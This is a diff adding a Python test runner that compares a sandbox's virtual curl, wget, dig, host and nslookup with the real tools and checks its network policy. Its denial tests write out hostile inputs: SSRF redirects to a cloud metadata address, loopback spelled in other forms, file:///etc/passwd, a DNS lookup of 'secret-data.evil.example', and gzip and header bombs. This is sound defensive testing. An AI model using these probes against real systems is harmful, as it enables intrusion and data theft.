@@ -1,0 +1,419 @@
+#!/usr/bin/env python3
+"""The network commands of the virtual tier (curl, wget, host, dig, nslookup) against a server of this script's own.
+
+    run_virtual_net.py [--paddock FILE] [--filter RE] [-v]
+
+A case of tests/virtual_net/*.cases is a script that runs twice against the same server: with the real tools, and in a virtual sandbox whose
+policy allows that server. Standard output, standard error and exit status must be the same. Cases of the policy (denials, attacks)
+follow here, in Python: what must not be reached is a second server, which counts its connections. The last line is "N passed, N failed, N skipped".
+"""
+
+import argparse
+import gzip
+import http.server
+import json
+import os
+import pathlib
+import re
+import shutil
+import socket
+import ssl
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+ROOT = pathlib.Path(__file__).resolve().parent.parent
+CASES = ROOT / "tests" / "virtual_net"
+
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    """Answers that are the same whoever asks: what differs between two runs (dates, the order of fields) is left out."""
+
+    protocol_version = "HTTP/1.1"
+
+    def log_message(self, *_):
+        pass
+
+    def version_string(self):
+        return "Case"
+
+    def date_time_string(self, timestamp=None):
+        return "Mon, 01 Jan 2024 00:00:00 GMT"
+
+    def answer(self, status, body=b"", fields=()):
+        self.send_response(status)
+        for name, value in fields:
+            self.send_header(name, value)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        if self.command != "HEAD":
+            self.wfile.write(body)
+
+    def read_body(self):
+        if self.headers.get("Transfer-Encoding", "") == "chunked":
+            body = b""
+            while True:
+                size = int(self.rfile.readline().split(b";")[0], 16)
+                body += self.rfile.read(size)
+                self.rfile.readline()
+                if size == 0:
+                    return body
+        return self.rfile.read(int(self.headers.get("Content-Length") or 0))
+
+    def echo(self, body):
+        boundary = re.search(r"boundary=(\S+)", self.headers.get("Content-Type", ""))
+        fields = sorted(f"{name.lower()}: {value}" for name, value in self.headers.items() if name.lower() not in ("connection",))
+        text = f"{self.command} {self.path}\n" + "\n".join(fields) + "\n\n" + body.decode("latin1") + "\n"
+        if boundary:
+            text = text.replace(boundary[1], "BOUNDARY")
+        return text.replace(f":{self.server.server_port}", ":PORT").encode("latin1")
+
+    def go(self):
+        body = self.read_body()
+        path, _, query = self.path.partition("?")
+        words = path.strip("/").split("/")
+        text = [("Content-Type", "text/plain")]
+        if words[0] == "echo":
+            self.answer(200, self.echo(body), text)
+        elif words[0] == "status":
+            self.answer(int(words[1]), b"" if words[1] == "204" else b"status %s\n" % words[1].encode(), text)
+        elif words[0] == "to":  # /to/301/3: three redirects, then /echo; /to/302?URL: there
+            left = int(words[2]) if len(words) > 2 else 1
+            target = query or (f"/to/{words[1]}/{left - 1}" if left > 1 else "/echo")
+            self.answer(int(words[1]), b"moved\n", [("Location", target)])
+        elif words[0] == "text":
+            self.answer(200, b"one\ntwo\nthree\n", text + [("Last-Modified", "Tue, 02 Jan 2024 03:04:05 GMT")])
+        elif words[0] == "bytes":
+            data = bytes(i % 251 for i in range(int(words[1])))
+            span = re.fullmatch(r"bytes=(\d+)-(\d*)", self.headers.get("Range", ""))
+            if span and int(span[1]) >= len(data):
+                self.answer(416, b"", [("Content-Range", f"bytes */{len(data)}")])
+            elif span:
+                first, last = int(span[1]), min(int(span[2] or len(data) - 1), len(data) - 1)
+                self.answer(206, data[first:last + 1], [("Content-Type", "application/octet-stream"), ("Content-Range", f"bytes {first}-{last}/{len(data)}")])
+            else:
+                self.answer(200, data, [("Content-Type", "application/octet-stream"), ("Accept-Ranges", "bytes")])
+        elif words[0] == "gzip":
+            self.answer(200, gzip.compress(b"packed text\n", mtime=0), text + [("Content-Encoding", "gzip")])
+        elif words[0] == "bomb":  # a gigabyte of zeros in a megabyte
+            import zlib
+            packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+            packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(1024)) + packer.flush()
+            self.answer(200, packed, text + [("Content-Encoding", "gzip")])
+        elif words[0] == "cookie":
+            self.answer(200, b"set\n", text + [("Set-Cookie", "a=1; Path=/"), ("Set-Cookie", "b=2; Path=/; HttpOnly")])
+        elif words[0] == "name":
+            self.answer(200, b"named\n", text + [("Content-Disposition", f'attachment; filename="{query}"')])
+        elif words[0] == "auth":
+            if self.headers.get("Authorization") == "Basic dTpw":  # u:p
+                self.answer(200, b"in\n", text)
+            else:
+                self.answer(401, b"out\n", text + [("WWW-Authenticate", 'Basic realm="r"')])
+        elif words[0] == "slow":
+            self.send_response(200)
+            self.send_header("Content-Length", "100")
+            self.end_headers()
+            try:
+                for _ in range(100):
+                    self.wfile.write(b"x")
+                    self.wfile.flush()
+                    time.sleep(0.1)
+            except OSError:
+                pass
+        elif words[0] == "heads":  # a bomb of fields
+            try:
+                self.wfile.write(b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: %s\r\n" % (i, b"y" * 1000) for i in range(20000)) + b"Content-Length: 0\r\n\r\n")
+            except OSError:
+                pass
+            self.close_connection = True
+        elif words[0] == "forged":
+            self.answer(403, b"paddock denied GET http://x/\n", text + [("X-Paddock", "egress")])
+        elif words[0] == "endless":
+            self.send_response(200)
+            self.end_headers()
+            try:
+                while True:
+                    self.wfile.write(bytes(1 << 16))
+            except OSError:
+                self.close_connection = True
+        elif words[0] == "cut":
+            self.send_response(200)
+            self.send_header("Content-Length", "100")
+            self.end_headers()
+            self.wfile.write(b"half\n")
+            self.close_connection = True
+        elif words[0] == "page.html" or path == "/":
+            self.answer(200, b"<html>page</html>\n", [("Content-Type", "text/html")])
+        else:
+            self.answer(404, b"not here\n", text)
+
+    do_GET = do_POST = do_PUT = do_HEAD = do_DELETE = do_PATCH = do_OPTIONS = go
+
+
+class Quiet(http.server.ThreadingHTTPServer):
+    def handle_error(self, *_):
+        pass  # clients leave
+
+
+class Server(Quiet):
+    daemon_threads = True
+
+    def __init__(self, certificate=None):
+        super().__init__(("127.0.0.1", 0), Handler)
+        self.connections = 0
+        if certificate:
+            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+            context.load_cert_chain(certificate)
+            self.socket = context.wrap_socket(self.socket, server_side=True)
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+    def verify_request(self, request, client_address):
+        self.connections += 1
+        return True
+
+
+class Names(threading.Thread):
+    """A name server for the real tools that answers as the policy does: an address for ok.example, no such name for the rest."""
+
+    def __init__(self):
+        super().__init__(daemon=True)
+        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.socket.bind(("127.0.0.1", 0))
+        self.port = self.socket.getsockname()[1]
+        self.start()
+
+    def run(self):
+        while True:
+            message, client = self.socket.recvfrom(4096)
+            end = message.index(b"\0", 12) + 1
+            is_known, kind = message[12:end] == b"\x02ok\x07example\0", int.from_bytes(message[end:end + 2], "big")
+            answer = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xc6\x12\0\1" if is_known and kind == 1 else b""
+            head = message[:2] + (b"\x81\x80" if is_known else b"\x81\x83") + b"\0\1\0" + bytes([1 if answer else 0]) + bytes(4)
+            self.socket.sendto(head + message[12:end + 4] + answer, client)
+
+
+class Runner:
+    def __init__(self, arguments):
+        self.arguments = arguments
+        self.server = Server()
+        self.other = Server()
+        self.passed = self.failed = self.skipped = 0
+
+    @property
+    def port(self):
+        return self.server.server_port
+
+    def inside(self, script, *options, hosts=None, timeout=60):
+        """A script in a virtual sandbox: its result as --json tells it."""
+        hosts = [f"127.0.0.1:{self.port}"] if hosts is None else hosts
+        command = [self.arguments.paddock, "run", "--json"] + [word for host in hosts for word in ("--allow-host", host)] + list(options)
+        done = subprocess.run(command + [script], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=timeout, cwd="/",
+                              env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "http_proxy": "http://127.0.0.1:1", "https_proxy": "http://127.0.0.1:1"})
+        if not done.stdout:
+            return {"stdout": "", "stderr": done.stderr, "exit_code": done.returncode, "denials": [], "termination": {"reason": "start"}}
+        return json.loads(done.stdout)
+
+    def outside(self, script):
+        with tempfile.TemporaryDirectory() as home:
+            done = subprocess.run(["bash", "-c", script], stdin=subprocess.DEVNULL, capture_output=True, timeout=60, cwd=home,
+                                  env={"PATH": "/usr/bin:/bin", "HOME": home, "LANG": "C.UTF-8"})
+            return done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace"), done.returncode
+
+    def report(self, name, problem, shown=""):
+        if problem:
+            self.failed += 1
+            print(f"FAIL {name}: {problem}\n{shown}")
+        else:
+            self.passed += 1
+            if self.arguments.verbose:
+                print(f"ok {name}")
+
+    def compare(self, name, script):
+        script = script.replace("$S", f"http://127.0.0.1:{self.port}").replace("$P", str(self.port))
+        real = self.outside(script)
+        ours = self.inside(script)
+        mine = (ours["stdout"], ours["stderr"], ours["exit_code"])
+        # Times and speeds differ, as do temporary places.
+        plain = lambda text: re.sub(r"after \d+ ms", "after N ms", re.sub(r"bash: line \d+: ", "", text))
+        problems = [what for what, a, b in zip(("stdout", "stderr", "status"), real, mine) if (plain(a) if isinstance(a, str) else a) != (plain(b) if isinstance(b, str) else b)]
+        self.report(name, ", ".join(problems), f"--- script\n{script}--- real\n{real[0]}{real[1]}status {real[2]}\n--- ours\n{mine[0]}{mine[1]}status {mine[2]}\n")
+
+    def run_cases(self):
+        chosen = re.compile(self.arguments.filter)
+        for path in sorted(CASES.glob("*.cases")):
+            tool = path.stem
+            for block in path.read_text(encoding="utf-8").split("#### ")[1:]:
+                title, _, script = block.partition("\n")
+                if not chosen.search(f"{tool}: {title}"):
+                    continue
+                if shutil.which(tool, path="/usr/bin:/bin") is None:
+                    self.skipped += 1
+                    continue
+                self.compare(f"{tool}: {title}", script)
+        for name in sorted(vars(type(self))):
+            if name.startswith("check_") and chosen.search(name):
+                getattr(self, name)()
+
+    def check(self, name, condition, result=None):
+        self.report(name, "" if condition else "is not so", json.dumps(result, indent=1)[:3000] if result else "")
+
+    # What the policy decides.
+
+    def check_absent_without_hosts(self):
+        result = self.inside("curl -V; wget -V; host x; dig x; nslookup x; ls /usr/bin/curl", hosts=[])
+        self.check("commands are absent without hosts", result["stderr"].count("command not found") == 5 and "No such file" in result["stderr"], result)
+        listed = json.loads(subprocess.run([self.arguments.paddock, "commands", "--json"], capture_output=True, text=True, timeout=20).stdout)
+        marked = sorted(one["name"] for one in (listed if isinstance(listed, list) else listed["commands"]) if one["needs_network"])
+        self.check("paddock commands marks them", marked == ["curl", "dig", "host", "nslookup", "wget"], marked)
+
+    def denied(self, name, script, hosts=None, text="denied by the sandbox's policy"):
+        before = self.other.connections
+        result = self.inside(script, hosts=hosts)
+        self.check(name, result["exit_code"] != 0 and text in result["stderr"] and result["denials"] and self.other.connections == before, result)
+
+    def check_denials(self):
+        other = self.other.server_port
+        self.denied("a host that no rule allows", "curl -sS http://example.com/")
+        self.denied("another port of an allowed host", f"curl -sS http://127.0.0.1:{other}/")
+        self.denied("a redirect to another port", f"curl -sSL 'http://127.0.0.1:{self.port}/to/302?http://127.0.0.1:{other}/'")
+        self.denied("a redirect to a private address", f"curl -sSL 'http://127.0.0.1:{self.port}/to/302?http://10.1.2.3/'")
+        self.denied("a redirect to a metadata service", f"curl -sSL 'http://127.0.0.1:{self.port}/to/302?http://169.254.169.254/'")
+        self.denied("a metadata service by a wide rule", "curl -sS http://169.254.169.254/", hosts=["169.254.0.0/16"])
+        self.denied("loopback by a rule for names", f"curl -sS http://127.0.0.1:{other}/", hosts=["*"])
+        self.denied("loopback in other spellings", f"curl -sS http://0x7f000001:{other}/", hosts=["*"])
+        self.denied("loopback as a decimal number", f"curl -sS http://2130706433:{other}/", hosts=["*"])
+        self.denied("loopback as IPv6", f"curl -sS 'http://[::ffff:127.0.0.1]:{other}/'", hosts=["*"])
+        self.denied("a name of loopback by a rule for names", f"curl -sS http://localhost:{other}/", hosts=["*"])
+        result = self.inside(f"curl -sS -H 'Host: other.example' http://localhost:{self.port}/echo", hosts=[f"localhost:{self.port}"])
+        self.check("a Host field that is not the URL's", result["exit_code"] == 7 and "denied by the sandbox's policy: Host names other.example" in result["stderr"], result)
+        result = self.inside(f"wget -nv http://127.0.0.1:{other}/ http://example.com/")
+        self.check("wget says the policy refused it", result["exit_code"] == 4 and result["stderr"].count("denied by the sandbox's policy") == 2 and len(result["denials"]) == 2, result)
+        self.denied("a redirect of wget's to another port", f"wget -nv 'http://127.0.0.1:{self.port}/to/302?http://127.0.0.1:{other}/'")
+        self.denied("TLS to a host that is not allowed", f"curl -sSk https://127.0.0.1:{other}/")
+        self.denied("credentials in the URL change no host", f"curl -sS http://127.0.0.1:{self.port}@127.0.0.1:{other}/")
+
+    def check_other_protocols(self):
+        for url in ("file:///etc/passwd", "ftp://127.0.0.1/x", "gopher://127.0.0.1:1/x", "dict://127.0.0.1/x", "scp://127.0.0.1/x", "telnet://127.0.0.1"):
+            result = self.inside(f"curl -sS {url}")
+            self.check(f"no {url}", result["exit_code"] == 1 and "not supported or disabled" in result["stderr"] and result["stdout"] == "", result)
+        result = self.inside(f"curl -sSL 'http://127.0.0.1:{self.port}/to/302?file:///etc/passwd'")
+        self.check("no redirect to file:", result["exit_code"] == 1 and "root:" not in result["stdout"], result)
+
+    def check_host_files(self):
+        marker = tempfile.NamedTemporaryFile(mode="w", prefix="paddock_net_", delete=False)
+        marker.write("of the host\n")
+        marker.close()
+        name = marker.name
+        for option in (f"-d @{name}", f"-T {name}", f"-F x=@{name}", f"-K {name}", f"-H @{name}", f"-b {name}", f"--data-urlencode @{name}"):
+            result = self.inside(f"curl -s {option} http://127.0.0.1:{self.port}/echo")
+            self.check(f"no file of the host by {option.split()[0]}", "of the host" not in result["stdout"], result)
+        self.inside(f"curl -s -o {name} -D {name} -c {name} --stderr {name} http://127.0.0.1:{self.port}/text")
+        self.check("no file of the host is written", pathlib.Path(name).read_text() == "of the host\n")
+        os.unlink(name)
+
+    def check_attacks(self):
+        base = f"http://127.0.0.1:{self.port}"
+        result = self.inside(f"curl -sS --compressed {base}/bomb | wc -c", "--limits", "memory=200M,time=60s", timeout=90)
+        self.check("a gzip bomb streams in bounded memory", result["stdout"].strip() == str(1 << 30), result)
+        result = self.inside(f"curl -sS --compressed -o f {base}/bomb; echo $?; stat -c %s f", "--limits", "disk=20M,time=60s", timeout=90)
+        self.check("a gzip bomb stops at the disk's limit", result["stdout"].startswith("23") or result["termination"]["reason"] == "disk", result)
+        result = self.inside(f"curl -sS -o f {base}/endless", "--limits", "disk=5M,time=30s", timeout=60)
+        self.check("an endless body stops at the disk's limit", result["exit_code"] == 23 or result["termination"]["reason"] == "disk", result)
+        result = self.inside(f"curl -sS {base}/endless | head -c 100 | wc -c", "--limits", "time=30s")
+        self.check("a reader that leaves ends the transfer", result["stdout"].strip() == "100", result)
+        result = self.inside(f"curl -sS {base}/heads | wc -c", "--limits", "memory=100M,time=20s")
+        self.check("a bomb of header fields ends", result["termination"]["reason"] in ("exit",) and result["stderr"] != "", result)
+        result = self.inside(f"curl -sS {base}/slow", "--limits", "time=1s")
+        self.check("a slow body ends with the exec's time", result["termination"]["reason"] == "timeout" and result["duration_ms"] < 4000, result)
+        result = self.inside(f"curl -sS -m 0.5 {base}/slow; echo $?")
+        self.check("a slow body ends with -m", result["stdout"].endswith("28\n"), result)
+        result = self.inside(f"curl -sS {base}/forged; echo $?")
+        self.check("a server cannot forge a denial", result["stdout"] == "paddock denied GET http://x/\n0\n" and not result["denials"], result)
+        begun = time.monotonic()
+        result = self.inside("; ".join(["for i in $(seq 40); do curl -sS -m 3 -o /dev/null " + base + "/slow & done", "sleep 0.3", "echo alive", "wait"]), "--limits", "time=20s")
+        self.check("transfers block nobody else", result["stdout"].startswith("alive") and time.monotonic() - begun < 15, result)
+        result = self.inside(f"timeout 0.3 curl -s {base}/slow; echo $?; (curl -s {base}/slow & p=$!; sleep 0.2; kill -9 $p; wait $p; echo $?)")
+        self.check("a signal ends a transfer", result["stdout"].replace("x", "") == "124\n137\n", result)
+
+    def check_names(self):
+        """host, dig and nslookup: the real ones ask a name server that answers as the policy does."""
+        names = Names()
+
+        def plain(text):
+            text = re.sub(r"Using domain server:\nName: .*\nAddress: .*\nAliases: \n\n", "", text)
+            text = re.sub(r"; <<>> DiG.*|; \(1 server found\)\n|;; (Query time|SERVER|WHEN).*\n", "", text)
+            text = re.sub(r"id: \d+|in \d+ ms|198\.18\.\d+\.\d+|127\.0\.0\.1#\d+", "N", text)
+            return re.sub(r"(ok\.example\.\s+)\d+", r"\1N", text)
+
+        for words in ("host ok.example", "host no.example", "host -t A ok.example", "host -t AAAA ok.example", "host -t mx ok.example", "host 1.2.3.4", "host -v -t A ok.example",
+                      "host -t nothing ok.example", "dig ok.example", "dig no.example", "dig +short ok.example", "dig +short no.example", "dig +noall +answer ok.example",
+                      "dig -x 1.2.3.4", "dig ok.example AAAA", "dig -t AAAA -q ok.example", "dig +nostats +nocomments ok.example", "dig +noquestion ok.example A ok.example AAAA",
+                      "dig AAAA ok.example +short", "nslookup ok.example", "nslookup no.example", "nslookup -type=AAAA ok.example", "nslookup 1.2.3.4", "nslookup -type=A ok.example"):
+            tool, _, rest = words.partition(" ")
+            if shutil.which(tool, path="/usr/bin:/bin") is None:
+                self.skipped += 1
+                continue
+            real = self.outside({"host": f"host -p {names.port} {rest} 127.0.0.1", "dig": f"dig -p {names.port} +noedns @127.0.0.1 {rest}",
+                                 "nslookup": f"nslookup -port={names.port} {rest} 127.0.0.1"}[tool])
+            ours = self.inside(words, hosts=["ok.example"])
+            same = plain(real[0]) == plain(ours["stdout"]) and real[2] == ours["exit_code"]
+            self.report(words, "" if same else "is another answer", f"--- real\n{plain(real[0])}{real[1]}status {real[2]}\n--- ours\n{plain(ours['stdout'])}{ours['stderr']}status {ours['exit_code']}\n")
+        result = self.inside("host secret-data.evil.example; dig +short x.evil.example; nslookup y.evil.example", hosts=["ok.example"])
+        self.check("names that no rule allows are denials", len(result["denials"]) == 3 and result["stderr"].count("denied by the sandbox's policy") == 3, result)
+        result = self.inside("dig @8.8.8.8 ok.example; echo $?; host ok.example 8.8.8.8; echo $?; nslookup ok.example 8.8.8.8; echo $?", hosts=["ok.example"])
+        self.check("other servers are refused", result["stdout"] == "9\n1\n1\n" and result["stderr"].count("no other server can be asked") == 3, result)
+        result = self.inside("dig $(printf 'a%.0s' {1..70}).example; dig a..b; host $(printf 'aa.%.0s' {1..200})", hosts=["*"])
+        self.check("names that are none", result["stderr"].count("not a legal name") == 3, result)
+
+    def check_tls(self):
+        with tempfile.TemporaryDirectory() as folder:
+            pem = pathlib.Path(folder, "server.pem")
+            made = subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2", "-subj", "/CN=localhost",
+                                   "-addext", "subjectAltName=DNS:localhost", "-keyout", str(pem), "-out", folder + "/certificate.pem"], capture_output=True)
+            if made.returncode != 0:
+                self.skipped += 1
+                return
+            certificate = pathlib.Path(folder, "certificate.pem").read_text()
+            pem.write_text(pem.read_text() + certificate)
+            server = Server(str(pem))
+            here, hosts = f"https://localhost:{server.server_port}", [f"localhost:{server.server_port}"]
+            result = self.inside(f"curl -sS {here}/text; echo $?; wget -q -O - {here}/text; echo $?", hosts=hosts)
+            self.check("an unknown authority is not trusted", result["stdout"] == "60\n5\n" and "SSL certificate problem" in result["stderr"], result)
+            result = self.inside(f"curl -sSk {here}/text; wget -q --no-check-certificate -O - {here}/text; cat > ca.pem <<'E'\n{certificate}E\ncurl -sS --cacert ca.pem {here}/text; "
+                                 f"wget -q --ca-certificate ca.pem -O - {here}/text", hosts=hosts)
+            self.check("TLS", result["stdout"] == "one\ntwo\nthree\n" * 4 and result["stderr"] == "", result)
+            result = self.inside(f"curl -sS --cacert {folder}/certificate.pem {here}/text", hosts=hosts)
+            self.check("no authority of the host's files", result["exit_code"] == 77, result)
+            result = self.inside(f"curl -sSk -H 'Host: other.example' {here}/echo; curl -sSLk {here}/to/302?https://127.0.0.1:{self.other.server_port}/; echo $?", hosts=hosts)
+            self.check("a redirect within TLS is judged", result["stdout"].endswith("7\n") and "denied by the sandbox's policy" in result["stderr"], result)
+            os.environ["NET_CASE_SECRET"] = "s3cr3t-value-of-the-case"
+            command = [self.arguments.paddock, "run", "--allow-host", hosts[0], "--secret", "KEY=env:NET_CASE_SECRET@" + hosts[0], "--tls-trust", folder + "/certificate.pem",
+                       f'curl -sS -H "X-Key: $KEY" {here}/status/200; curl -sS -H "X-Key: $KEY" {here}/echo | grep -c "x-key: $KEY"']
+            done = subprocess.run(command, capture_output=True, text=True, timeout=20, cwd="/")
+            self.check("a secret goes to its host and comes back as its placeholder", done.stdout == "status 200\n1\n" and "s3cr3t" not in done.stdout + done.stderr,
+                       [done.stdout, done.stderr])
+
+    def check_secrets(self):
+        os.environ["NET_CASE_SECRET"] = "s3cr3t-value-of-the-case"
+        command = [self.arguments.paddock, "run", "--allow-host", f"127.0.0.1:{self.port}", "--secret", "KEY=env:NET_CASE_SECRET@127.0.0.1",
+                   f'echo "$KEY"; curl -sS -H "Authorization: Bearer $KEY" http://127.0.0.1:{self.port}/echo; echo $?']
+        done = subprocess.run(command, capture_output=True, text=True, timeout=20)
+        self.check("a secret's value never enters", "s3cr3t" not in done.stdout + done.stderr, done.stdout + done.stderr)
+        self.check("a secret does not go out in plain text", "denied" in done.stderr, done.stdout + done.stderr)
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--paddock", default=str(ROOT / "build" / "release" / "bin" / "paddock"))
+    parser.add_argument("--filter", default="")
+    parser.add_argument("-v", "--verbose", action="store_true")
+    runner = Runner(parser.parse_args())
+    runner.run_cases()
+    print(f"{runner.passed} passed, {runner.failed} failed, {runner.skipped} skipped")
+    return 1 if runner.failed else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
